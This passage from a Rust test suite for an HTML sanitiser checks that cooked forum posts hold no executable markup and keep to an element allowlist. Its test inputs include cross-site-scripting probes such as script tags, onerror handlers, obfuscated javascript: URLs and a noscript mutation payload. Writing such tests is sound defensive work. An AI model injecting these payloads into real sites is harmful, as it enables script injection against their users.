    let executable: Vec<&str> = failures.iter().filter(|f| f.executable).map(|f| f.text.as_str()).collect();
    assert!(
        executable.is_empty(),
        "{} of {cooked_count} cooks let something executable through:\n\n{}",
        executable.len(),
        executable.join("\n\n")
    );
}

/// Cooked posts keep to the allowlist even where what slips through is
/// inert: only the listed elements, inputs only as checkboxes, URLs in
/// `cite` as safe as in `href`.
#[test]
fn cooked_html_keeps_to_the_allowlist() {
    let (cooked_count, _, failures) = corpus_results();
    let policy: Vec<&str> = failures.iter().filter(|f| !f.executable).map(|f| f.text.as_str()).collect();
    // One line per distinct problem first, then the details.
    let mut kinds: Vec<String> = policy
        .iter()
        .flat_map(|f| f.lines().filter(|l| l.trim_start().starts_with("policy:")))
        .map(|l| l.trim().split("] ").nth(1).unwrap_or(l).split(" (value").next().unwrap_or(l).to_string())
        .collect();
    kinds.sort();
    kinds.dedup();
    assert!(
        policy.is_empty(),
        "{} of {cooked_count} cooks keep something outside the allowlist (inert, but not what the sanitiser should let through):\n  {}\n\n{}",
        policy.len(),
        kinds.join("\n  "),
        policy.join("\n\n")
    );
}

#[test]
fn corpus_is_large_and_varied() {
    let families = families();
    let total: usize = families.iter().map(|(_, list)| list.len()).sum();
    assert!(total >= 120, "only {total} payloads");
    assert!(families.len() >= 15);
    for (name, list) in &families {
        assert!(list.len() >= 5, "family {name} has {} payloads", list.len());
    }
}

/// The checker itself must see what it is meant to see, or a clean run
/// proves nothing.
#[test]
fn the_checker_catches_executable_html() {
    let bad = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\" JaVa&#x09;Script&colon;alert(1)\">x</a>",
        "<a href=\"&#1;vbscript:x\">x</a>",
        "<img src=\"data:image/svg+xml,x\">",
        "<p style=\"color:red\">x</p>",
        "<iframe srcdoc=\"x\"></iframe>",
        "<svg><a xlink:href=\"https://example.org\">x</a></svg>",
        "<math><mi>x</mi></math>",
        "<button formaction=\"https://example.org\">x</button>",
        "<input type=\"text\">",
        "<input>",
        "<div><!-- x --></div>",
        "<p id=\"csrf\">x</p>",
        "<table><tr><td><u>not in the allowlist</u></td></tr></table>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    ];
    for html in bad {
        assert!(!html_check::violations(html).is_empty(), "the checker missed {html:?}");
    }
    let good = [
        "<p>Hello <strong>world</strong> &lt;script&gt;</p>",
        "<p><a href=\"https://example.org\" rel=\"nofollow ugc noopener\">x</a> <a href=\"/u/neto\">@neto</a> <a href=\"#top\">t</a></p>",
        "<p><a href=\"mailto:x@example.org\">m</a> <a href=\"java script:alert(1)\">a relative path</a></p>",
        "<ul><li><input type=\"checkbox\" disabled=\"\" checked=\"\"> done</li></ul>",
        "<aside class=\"quote\" data-username=\"neto\"><blockquote><p>q</p></blockquote></aside>",
        "<details><summary>s</summary><p>x</p></details><img src=\"https://example.org/a.png\" alt=\"a\">",
        "<table><thead><tr><th>h</th></tr></thead><tbody><tr><td>c</td></tr></tbody></table>",
        "<span class=\"discourse-local-date\" data-date=\"2018-11-29\"><time datetime=\"2018-11-29\">Thu</time></span>",
        // Markup inside an attribute value is only text.
        "<p title=\"</p><img src=x onerror=alert(1)>\">x</p>",
    ];
    for html in good {
        assert!(html_check::violations(html).is_empty(), "false alarm on {html:?}: {:?}", html_check::violations(html));
    }
    assert!(html_check::any_executable(&html_check::violations("<svg><set attributeName=href to=x></svg>")));
    assert!(!html_check::any_executable(&html_check::violations("<u>underlined</u><input>")));
    assert_eq!(html_check::url_scheme(" \u{1}Java\tScript:x").as_deref(), Some("javascript"));
    assert_eq!(html_check::url_scheme("/t/1:2"), None);
    assert_eq!(html_check::url_scheme("a b:c"), None);
    assert_eq!(html_check::url_scheme("#x:y"), None);
}
